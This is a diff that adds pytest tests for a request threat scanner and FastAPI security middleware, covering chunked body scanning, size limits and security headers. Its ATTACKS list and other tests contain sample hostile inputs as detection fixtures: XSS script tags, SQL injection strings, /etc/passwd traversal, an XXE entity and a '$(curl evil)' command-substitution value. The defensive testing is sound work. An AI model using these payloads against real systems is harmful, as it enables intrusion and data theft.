@@ -0,0 +1,173 @@
+"""Tests for the compiled request threat scanner and SecurityMiddleware."""
+
+import pytest
+from fastapi import FastAPI, Request
+from httpx import ASGITransport, AsyncClient
+
+from src.api.middleware.security import (
+    RequestValidator,
+    SecurityConfig,
+    SecurityMiddleware,
+)
+from src.api.middleware.threat_scanner import (
+    ThreatScanner,
+    compile_pattern,
+    max_match_length,
+)
+
+ATTACKS = [
+    "<SCRIPT>alert(1)</script>",
+    "name=x' OR 1=1",
+    "1 UNION ALL SELECT password",
+    "../../etc/passwd",
+    '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
+    "$(curl evil)",
+]
+
+
+@pytest.fixture
+def scanner():
+    return ThreatScanner(
+        SecurityConfig.SUSPICIOUS_PATTERNS,
+        skip_content_types=SecurityConfig.UNSCANNED_CONTENT_TYPES,
+    )
+
+
+class TestThreatScanner:
+    """Tests for ThreatScanner."""
+
+    def test_quantifiers_bounded_and_escapes_kept(self):
+        pattern = compile_pattern(r"SELECT\s+.*\s+FROM", span=8)
+
+        assert pattern.pattern == r"select\s{1,8}.{0,8}\s{1,8}from"
+        assert max_match_length(r"SELECT\s+.*\s+FROM", span=8) == 18 + 24
+        assert compile_pattern(r"\(\w+\s*=\s*\*\)").search("(cn=*)")
+
+    @pytest.mark.parametrize("attack", ATTACKS)
+    def test_detects_like_case_insensitive_patterns(self, scanner, attack):
+        assert scanner.search(attack) is not None
+
+    def test_clean_text_passes(self, scanner):
+        assert scanner.search('{"nome": "Escola Municipal", "valor": 10.5}') is None
+
+    def test_match_across_chunk_boundaries(self, scanner):
+        body = b'{"q": "' + b"a" * 5000 + b'", "x": "<scri' + b'pt>alert(1)</script>"}'
+        scan = scanner.stream()
+
+        found = [
+            scan.feed(body[i : i + 7], final=i + 7 >= len(body))
+            for i in range(0, len(body), 7)
+        ]
+
+        assert any(found)
+        assert len(scan._tail) <= scanner.overlap
+
+    def test_multibyte_characters_split_across_chunks(self, scanner):
+        body = "licitação ../etc".encode()
+        scan = scanner.stream()
+        cut = body.index("ç".encode()) + 1
+
+        assert scan.feed(body[:cut]) is None
+        assert scan.feed(body[cut:], final=True) == r"\.\./"
+
+    def test_binary_content_types_skipped(self, scanner):
+        assert scanner.should_scan("application/json; charset=utf-8")
+        assert not scanner.should_scan("image/png")
+        assert not scanner.should_scan("application/octet-stream")
+
+    @pytest.mark.asyncio
+    async def test_scan_request_body(self):
+        validator = RequestValidator()
+
+        assert await validator.scan_request_body(b'{"ok": true}') == (True, None)
+        assert (await validator.scan_request_body(b"drop table x"))[0] is False
+
+
+def _app(received: list) -> FastAPI:
+    app = FastAPI()
+
+    @app.post("/api/v1/batch")
+    async def batch(request: Request):
+        body = await request.body()
+        received.append(body)
+        return {"size": len(body)}
+
+    app.add_middleware(SecurityMiddleware)
+    return app
+
+
+@pytest.fixture
+def events(monkeypatch):
+    logged = []
+
+    async def log_event(self, message, event_type, severity, details, context):
+        logged.append((message, details))
+
+    monkeypatch.setattr(SecurityMiddleware, "_log_security_event", log_event)
+    return logged
+
+
+class TestSecurityMiddleware:
+    """Tests for the streaming body scan in SecurityMiddleware."""
+
+    @pytest.mark.asyncio
+    async def test_clean_chunked_body_reaches_app(self, events):
+        received = []
+        chunks = [b'{"items": [', b'{"id": 1, "nome": "Escola"}', b"]}"]
+
+        async def stream():
+            for chunk in chunks:
+                yield chunk
+
+        transport = ASGITransport(app=_app(received))
+        async with AsyncClient(transport=transport, base_url="http://test") as client:
+            response = await client.post(
+                "/api/v1/batch",
+                content=stream(),
+                headers={"content-type": "application/json"},
+            )
+
+        assert response.status_code == 200
+        assert received == [b"".join(chunks)]
+        assert response.headers["X-Frame-Options"] == "DENY"
+        assert "Content-Security-Policy" in response.headers
+        assert events == []
+
+    @pytest.mark.asyncio
+    async def test_suspicious_chunk_rejected(self, events):
+        received = []
+
+        async def stream():
+            yield b'{"items": [{"q": "x' + b"a" * 100
+            yield b'<script>alert(1)</script>"}]}'
+
+        transport = ASGITransport(app=_app(received))
+        async with AsyncClient(transport=transport, base_url="http://test") as client:
+            response = await client.post(
+                "/api/v1/batch",
+                content=stream(),
+                headers={"content-type": "application/json"},
+            )
+
+        assert response.status_code == 400
+        assert response.json() == {"detail": "Invalid request content"}
+        assert received == []
+        assert events[0][1]["pattern"] == "<script[^>]*>.*?</script>"
+
+    @pytest.mark.asyncio
+    async def test_oversized_stream_rejected(self, events, monkeypatch):
+        monkeypatch.setattr(SecurityConfig, "MAX_REQUEST_SIZE", 64)
+
+        async def stream():
+            for _ in range(4):
+                yield b'{"nome": "Escola Municipal"},'
+
+        transport = ASGITransport(app=_app([]))
+        async with AsyncClient(transport=transport, base_url="http://test") as client:
+            response = await client.post(
+                "/api/v1/batch",
+                content=stream(),
+                headers={"content-type": "application/json"},
+            )
+
+        assert response.status_code == 413